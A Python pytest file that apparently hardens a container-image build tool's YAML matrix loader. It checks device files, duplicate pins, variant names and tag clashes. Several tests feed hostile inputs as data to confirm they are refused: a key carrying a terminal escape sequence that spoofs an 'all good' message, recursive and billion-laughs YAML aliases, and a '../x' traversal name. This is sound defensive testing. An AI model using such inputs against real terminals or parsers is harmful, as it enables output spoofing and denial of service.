def test_dev_zero_through_a_real_process(tmp_path):
    r = subprocess.run([sys.executable, "-m", "imagefactory", "list", "--matrix", "/dev/zero"],
                       capture_output=True, text=True, timeout=60, cwd=REPO)
    assert r.returncode == 2 and r.stderr == "error: /dev/zero: is a character device, not a regular file\n"


def test_mixed_non_text_keys_are_each_located(write_matrix):
    with pytest.raises(matrix.ConfigError) as e:
        matrix.load(write_matrix(BASE_HOSTILE + "1: a\nnull: b\n"))
    assert [p.split(": ", 1)[0].rsplit(":", 1)[-1] for p in e.value.problems] == ["7", "8"]
    assert "1: key '1' is read as a number" in e.value.problems[0]
    assert "null: key 'null' is read as null" in e.value.problems[1]


def test_no_escape_sequence_reaches_the_terminal(tmp_path):
    path = tmp_path / "m.yaml"
    path.write_text(BASE_HOSTILE + 'env: {"\\e[2K\\rerror: all good": x}\n')
    r = subprocess.run([sys.executable, "-m", "imagefactory", "list", "--matrix", str(path)],
                       capture_output=True, timeout=60, cwd=REPO)
    assert r.returncode == 2 and b"\x1b" not in r.stderr and b"\r" not in r.stderr
    assert r.stderr.count(b"\n") == 1


@pytest.mark.parametrize("value", ["3.11\n", "12.6\n", "scipy\n", "2.7.1\n", "trainer\n"])
def test_schema_patterns_match_whole_strings(value):
    # Without the walk that refuses control characters: the patterns alone refuse a final newline.
    data = {"image": "r.example.com/ml/t", "torch": "2.7.1", "matrix": {"python": ["3.11"], "cuda": ["none"],
            "blas": ["mkl"]}}
    field = {"3.11\n": ("matrix", "python"), "12.6\n": ("matrix", "cuda"), "scipy\n": ("packages",),
             "2.7.1\n": ("torch",), "trainer\n": ("user", "name")}[value]
    if field[0] == "matrix":
        data["matrix"][field[1]] = [value]
    elif field == ("packages",):
        data["packages"] = [value]
    elif field == ("user", "name"):
        data["user"] = {"name": value}
    else:
        data["torch"] = value
    assert list(matrix.Validator(matrix.schema()).iter_errors(data))
    assert matrix.is_reference("debian:bookworm") and not matrix.is_reference("debian:bookworm\n")


def test_an_alias_is_walked_once_and_a_small_one_still_works(write_matrix):
    m = matrix.load(write_matrix(BASE_HOSTILE + "env: &e {ab: x}\nlabels: *e\n"))
    assert dict(m.cells[0].env) == {"ab": "x"} and dict(m.cells[0].labels) == {"ab": "x"}
    problems, size = matrix._structure(yaml.compose(BASE_HOSTILE + _billion_laughs()))
    assert problems == [] and size > 9 ** 8  # counted, never walked: the walk visits each node once


def test_digest_pinned_cell_in_an_include_entry(write_matrix):
    text = BASE_HOSTILE.replace("  blas: [openblas]", f'  blas: [openblas]\n  include:\n    - {{blas: openblas, '
                        f'base_image: "debian:bookworm-slim@{DIGEST}"}}')
    assert matrix.load(write_matrix(text)).cells[0].base_image == f"debian:bookworm-slim@{DIGEST}"


# -- moved from test_hardening_iii.py ----------------------------------------


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A matrix in an empty folder, the cwd; no netrc, no Docker config, no engine address."""
    return hardening_project(tmp_path, monkeypatch)


def test_ten_thousand_unknown_only_ids_are_twenty_lines_and_a_count(project, monkeypatch, capsys):
    args = ["list"] + [a for i in range(10_000) for a in ("--only", f"nope{i}")]
    code, out, err = run_cli(args, monkeypatch, capsys)
    lines = err.splitlines()
    assert code == 2 and len(lines) == yamlfile.MAX_PROBLEMS + 1
    assert lines[-1] == f"error: {10_000 - yamlfile.MAX_PROBLEMS} more problems not shown"


def test_a_typo_against_240_cells_is_one_bounded_line(project, monkeypatch, capsys):
    variants = ", ".join(f"v{i}" for i in range(12))
    (project / "matrix.yaml").write_text(
        PIP_III.replace('python: ["3.11"]', 'python: ["3.10", "3.11", "3.12", "3.13", "3.14"]')
        .replace("blas: [openblas]", "blas: [openblas, mkl]")
        .replace("installer: [pip]", f"installer: [pip, conda]\n  variant: [{variants}]")
        + "  numpy_index_url: https://pkgs.example.com/mkl/simple\n")
    n = len(matrix.load(project / "matrix.yaml").cells)
    assert n == 240
    line = one_error(["list", "--only", "py3.11-cpu-openblas-pipp"], monkeypatch, capsys)
    assert len(line) < terminal.MAX_LINE and f"and {n - terminal.MAX_LISTED} more" in line


def test_the_schemas_tag_defaults_are_the_codes():
    from imagefactory.config.model import Matrix

    props = matrix.schema()["properties"]["tags"]["properties"]
    assert props["template"]["default"] == Matrix.tag_template
    assert props["hash_template"]["default"] == Matrix.hash_tag_template


VARIANTS = PIP_III.replace("  installer: [pip]", "  installer: [pip]\n  variant: [base, vision]\n  include:\n"
                       "    - {python: \"3.12\", cuda: none, blas: openblas, installer: pip, variant: visoin}")


def test_a_typod_variant_in_an_include_that_adds_a_cell_is_refused(project, monkeypatch, capsys):
    line = refused(project, VARIANTS, monkeypatch, capsys)
    assert "matrix.include[0].variant" in line and "'visoin' is not in matrix.variant" in line
    assert "did you mean 'vision'?" in line


def test_an_include_that_adds_a_cell_of_a_listed_variant_is_kept(project):
    m = matrix.load(write(project, VARIANTS.replace("variant: visoin", "variant: vision")))
    assert "py3.12-cpu-openblas-pip-vision" in [c.id for c in m.cells]


@pytest.mark.parametrize("doc", ["labels: &l {a: *l}\n", "labels: &l [*l]\n", "env: &e {A: {B: *e}}\n"])
@pytest.mark.parametrize("command", ["list", "render"])
def test_a_recursive_alias_is_refused_cleanly(project, monkeypatch, capsys, doc, command):
    write(project, PIP_III + doc)
    line = one_error([command], monkeypatch, capsys)
    assert "recursive alias" in line and line.startswith("error: matrix.yaml:")
    assert not (project / "build").exists()


@pytest.mark.parametrize("packages, bad", [
    ('["scipy==1.11.0", "scipy==1.13.0"]', True),
    ('["scipy==1.11.0", "SciPy>=1.13"]', True),
    ('["scipy==1.11.0", "scipy>=1.10"]', False),
    ('["scipy>=1.11", "scipy<2"]', False),
])
def test_two_pins_of_one_package_are_refused(project, monkeypatch, capsys, packages, bad):
    text = PIP_III + f"packages: {packages}\n"
    if bad:
        assert "no install can satisfy at once" in refused(project, text, monkeypatch, capsys)
    else:
        matrix.load(write(project, text))


def test_two_conda_pins_of_one_package_are_refused(project, monkeypatch, capsys):
    conda = PIP_III.replace("installer: [pip]", "installer: [conda]").split("pip:")[0]
    line = refused(project, conda + 'packages: ["scipy=1.11", "scipy=1.13"]\n', monkeypatch, capsys)
    assert "pin scipy" in line
    matrix.load(write(project, conda + 'packages: ["scipy=1.11", "scipy==1.11.2"]\n'))


# -- moved from test_matrix_variants.py ----------------------------------------
# The optional fifth axis, `matrix.variant`: cells alike in python, cuda, blas and installer
# that differ in what the include entries matching their variant set.


VARIANTS_VAR = """
image: registry.example.com/ml/train
matrix:
  python: ["3.11"]
  cuda: ["none"]
  blas: [openblas]
  installer: [pip]
  variant: [base, t2, vision]
  include:
    - {variant: t2, threads: 2}
    - {variant: vision, packages: [pillow]}
torch: "2.13.0"
threads: 4
"""


PLAIN = VARIANTS_VAR.replace("  variant: [base, t2, vision]\n", "").split("  include:")[0] + 'torch: "2.13.0"\nthreads: 4\n'


def test_each_variant_is_a_cell_with_what_its_include_entries_set(write_matrix):
    m = matrix.load(write_matrix(VARIANTS_VAR))
    assert [c.id for c in m.cells] == ["py3.11-cpu-openblas-pip-base", "py3.11-cpu-openblas-pip-t2",
                                       "py3.11-cpu-openblas-pip-vision"]
    base, t2, vision = m.cells
    assert (base.threads, base.packages) == (4, ())
    assert (t2.threads, t2.packages) == (2, ())
    assert (vision.threads, vision.packages) == (4, ("pillow",))
    # the default tag ends with the variant, so the cells never share a tag
    assert t2.tags == ("registry.example.com/ml/train:2.13.0-py3.11-cpu-openblas-pip-t2",)


def test_a_variant_is_labelled_and_a_cell_without_one_keeps_its_labels(write_matrix):
    m = matrix.load(write_matrix(VARIANTS_VAR))
    labels = dict(contexts.labels(m, m.cells[1], None))
    assert labels["io.imagefactory.variant"] == "t2" and labels["io.imagefactory.cell"].endswith("-pip-t2")
    plain = matrix.load(write_matrix(PLAIN, "plain.yaml"))
    [cell] = plain.cells
    assert cell.id == "py3.11-cpu-openblas-pip" and cell.variant == ""
    assert "io.imagefactory.variant" not in dict(contexts.labels(plain, cell, None))
    assert cell.tags == ("registry.example.com/ml/train:2.13.0-py3.11-cpu-openblas-pip",)


def test_exclude_and_a_template_can_name_the_variant(write_matrix):
    text = VARIANTS_VAR.replace("  include:", "  exclude: [{variant: base}]\n  include:") + \
        'tags: {template: "{image}:{variant}-{python}"}\n'
    m = matrix.load(write_matrix(text))
    assert [c.tags[0].rsplit(":", 1)[1] for c in m.cells] == ["t2-3.11", "vision-3.11"]


@pytest.mark.parametrize("name", ["Vision", "-x", "x-", "a b", "../x", "a_b", "x" * 33, "", "a\nb"])
def test_a_variant_name_outside_the_pattern_is_one_located_error(write_matrix, name):
    text = VARIANTS_VAR.replace("variant: [base, t2, vision]", f"variant: [base, {name!r}]")
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(text))
    assert e.value.exit_code == 2
    assert any(":7: matrix.variant[1]" in p for p in e.value.problems), e.value.problems


def test_a_variant_listed_twice_and_an_exclude_of_no_variant_are_errors(write_matrix):
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(VARIANTS_VAR.replace("[base, t2, vision]", "[base, t2, base]")))
    assert any("listed twice" in p for p in e.value.problems)
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(PLAIN.replace("  installer: [pip]\n", "  installer: [pip]\n  exclude: [{variant: x}]\n")))
    assert any("none, matrix.variant is not set" in p for p in e.value.problems), e.value.problems


def test_two_variants_that_would_share_a_tag_are_refused(write_matrix):
    text = VARIANTS_VAR + 'tags: {template: "{image}:{python}-{accel}"}\n'
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(text))
    assert any("would both be tagged" in p for p in e.value.problems)
